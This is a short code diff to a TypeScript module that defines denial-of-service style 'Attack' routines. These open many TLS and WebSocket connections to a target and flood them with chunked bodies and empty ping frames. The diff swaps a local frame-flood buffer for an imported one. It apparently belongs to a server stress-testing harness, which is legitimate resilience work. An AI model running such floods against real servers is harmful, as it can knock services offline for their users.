@@ -5,6 +5,7 @@ import type { TLSSocket } from 'node:tls';
 import {
   type Attack,
   type AttackTarget,
+  emptyPings,
   frame,
   openRaw,
   openSeveral,
@@ -13,8 +14,6 @@ import {
 
 /** Chunks of a body, in one write. */
 const chunks = Buffer.from('1\r\n \r\n'.repeat(10_000));
-/** So many frames that their address owes all that it can owe. */
-const debt = Buffer.concat(Array.from({ length: 10_922 }, () => frame(9, Buffer.alloc(0))));
 
 async function openBody(target: AttackTarget): Promise<TLSSocket> {
   const socket = await openRaw(target);
@@ -58,7 +57,7 @@ export const owedChunks: Attack = {
     const [debtor] = await openSeveral(1, () => openWebSocket(target), signal);
     const bodies = await openSeveral(200, () => openBody(target), signal);
     begun();
-    debtor?.write(debt);
+    debtor?.write(emptyPings);
     await sendChunks(target, bodies, signal);
   },
 };
@@ -114,7 +113,7 @@ export const smallRecords: Attack = {
       }),
     );
     begun();
-    debtor?.write(debt);
+    debtor?.write(emptyPings);
     await new Promise((resolve) => setTimeout(resolve, 100));
     for (const { open } of gates) open();
     if (!signal.aborted) await once(signal, 'abort');
